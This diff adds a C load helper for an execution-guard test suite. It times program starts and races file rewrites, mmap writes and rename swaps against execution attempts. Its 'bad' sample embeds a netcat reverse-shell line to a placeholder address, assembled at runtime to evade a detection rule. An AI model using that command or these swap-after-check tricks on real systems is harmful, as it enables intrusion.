@@ -1,0 +1,180 @@
+/*
+ * The load of guard.test.ts and bench/realtime.ts.
+ *   storm PROGRAM COUNT        starts a program again and again; prints the nanoseconds of each start, one a line
+ *   race DIRECTORY TRIES IMAGE writes bad programs while others run them; prints how often one ran or was denied.
+ *                              IMAGE is image.c: what lies behind its mark makes it good or bad
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#define RUNNERS 3
+#define RAN_BAD 99
+#define DENIED 77
+#define GAVE_UP 78
+
+/* 192.0.2.1 is nobody's (RFC 5737), and the line is behind the exit. The rule reverse_shell_netcat_exec knows it. */
+static char script[] = "#!/bin/sh\nexit 99\nn? 192.0.2.1 4444 -e /bin/sh\n";
+static const char mark[] = "ringwall-mark-01";
+static char good[1u << 18], bad[1u << 18];
+static size_t image_length;
+
+static uint64_t now_ns(void) {
+  struct timespec now;
+  clock_gettime(CLOCK_MONOTONIC, &now);
+  return (uint64_t)now.tv_sec * 1000000000u + (uint64_t)now.tv_nsec;
+}
+
+static int storm(const char *program, int count) {
+  char *const arguments[] = {(char *)program, NULL};
+  for (volatile int index = 0; index < count; index += 1) {
+    uint64_t start = now_ns();
+    pid_t child = vfork();
+    if (child == 0) {
+      execv(program, arguments);
+      _exit(127);
+    }
+    int status = 0;
+    if (child < 0 || waitpid(child, &status, 0) != child || status != 0) return 1;
+    printf("%llu\n", (unsigned long long)(now_ns() - start));
+  }
+  return 0;
+}
+
+/* Tries until the file is there and nobody writes it: the first start that the system lets through, or denies. */
+static void run_when_possible(const char *path) {
+  char *const arguments[] = {(char *)path, NULL};
+  uint64_t until = now_ns() + 20000000000u;
+  while (now_ns() < until) {
+    execv(path, arguments);
+    if (errno == EPERM) _exit(DENIED);
+    if (errno != ENOENT && errno != ETXTBSY && errno != EACCES) _exit(GAVE_UP);
+  }
+  _exit(GAVE_UP);
+}
+
+/* A program that runs cannot be opened to write it. */
+static int open_to_write(const char *path, int flags) {
+  for (;;) {
+    int file = open(path, flags, 0755);
+    if (file >= 0) return file;
+    if (errno != ETXTBSY) exit(1);
+  }
+}
+
+static void write_file(const char *path, const char *bytes, size_t length, int flags) {
+  int file = open_to_write(path, flags);
+  size_t half = length / 2;
+  if (write(file, bytes, half) < 0 || write(file, bytes + half, length - half) < 0) exit(1);
+  close(file);
+}
+
+static void write_mapped(const char *path) {
+  int file = open_to_write(path, O_RDWR);
+  char *memory = mmap(NULL, image_length, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
+  if (memory == MAP_FAILED) exit(1);
+  /* The pages are dirty before the bad bytes come: no time of the file changes with those. */
+  memcpy(memory, good, image_length);
+  memcpy(memory, bad, image_length);
+  munmap(memory, image_length);
+  close(file);
+}
+
+/* Four ways in which bad bytes can come under a name. */
+static void write_bad(const char *path, int way) {
+  char other[600];
+  if (way == 0) write_file(path, script, sizeof script - 1, O_CREAT | O_WRONLY | O_TRUNC);
+  if (way == 1) write_file(path, bad, image_length, O_WRONLY);
+  if (way == 2) write_mapped(path);
+  if (way == 3) {
+    snprintf(other, sizeof other, "%s.new", path);
+    write_file(other, bad, image_length, O_CREAT | O_WRONLY);
+    rename(other, path);
+  }
+}
+
+/* A program that only exits with a code; the line makes it bad. */
+static bool make_image(const char *path, char *into, unsigned char code, const char *line) {
+  int file = open(path, O_RDONLY);
+  ssize_t length = file < 0 ? -1 : read(file, into, sizeof good);
+  if (length <= 0 || length == (ssize_t)sizeof good) return false;
+  close(file);
+  image_length = (size_t)length;
+  char *place = memmem(into, image_length, mark, sizeof mark - 1);
+  if (place == NULL) return false;
+  place[sizeof mark - 1] = (char)code;
+  char *text = place + sizeof mark;
+  strcpy(text, line);
+  if (text[2] == '?') text[2] = 'c';
+  return true;
+}
+
+static int run_once(const char *path) {
+  char *const arguments[] = {(char *)path, NULL};
+  pid_t child = vfork();
+  if (child == 0) {
+    execv(path, arguments);
+    _exit(DENIED);
+  }
+  int status = 0;
+  waitpid(child, &status, 0);
+  return WEXITSTATUS(status);
+}
+
+static int race(const char *directory, int tries) {
+  /* Only now: this program itself is not bad. */
+  *strchr(script, '?') = 'c';
+  long ran = 0, denied = 0, good_ran = 0, gave_up = 0, first_ran = 0;
+  for (int attempt = 0; attempt < tries; attempt += 1) {
+    char path[512];
+    int way = attempt % 4;
+    snprintf(path, sizeof path, "%s/try-%d", directory, attempt);
+    if (way != 0) {
+      write_file(path, good, image_length, O_CREAT | O_WRONLY);
+      /* Known from here on. */
+      first_ran += run_once(path) == 0;
+    }
+    pid_t runners[RUNNERS];
+    for (int index = 0; index < RUNNERS; index += 1) {
+      runners[index] = fork();
+      if (runners[index] == 0) run_when_possible(path);
+    }
+    write_bad(path, way);
+    for (int index = 0; index < RUNNERS; index += 1) {
+      int status = 0;
+      waitpid(runners[index], &status, 0);
+      int code = WEXITSTATUS(status);
+      ran += code == RAN_BAD;
+      denied += code == DENIED;
+      good_ran += code == 0;
+      gave_up += code == GAVE_UP;
+    }
+    /* Everybody is done: the bad text stands under the name, and one more asks for it. */
+    int last = access(path, F_OK) == 0 ? run_once(path) : DENIED;
+    ran += last == RAN_BAD;
+    denied += last == DENIED;
+    unlink(path);
+  }
+  printf("{\"ran\":%ld,\"denied\":%ld,\"goodRan\":%ld,\"gaveUp\":%ld,\"firstRan\":%ld}\n", ran, denied, good_ran, gave_up,
+         first_ran);
+  return 0;
+}
+
+int main(int argc, char **argv) {
+  if (argc == 4 && strcmp(argv[1], "storm") == 0) return storm(argv[2], atoi(argv[3]));
+  if (argc == 5 && strcmp(argv[1], "race") == 0)
+    return make_image(argv[4], good, 0, "no line") && make_image(argv[4], bad, RAN_BAD, " n? 192.0.2.1 4444 -e /bin/sh")
+               ? race(argv[2], atoi(argv[3]))
+               : 1;
+  return 2;
+}
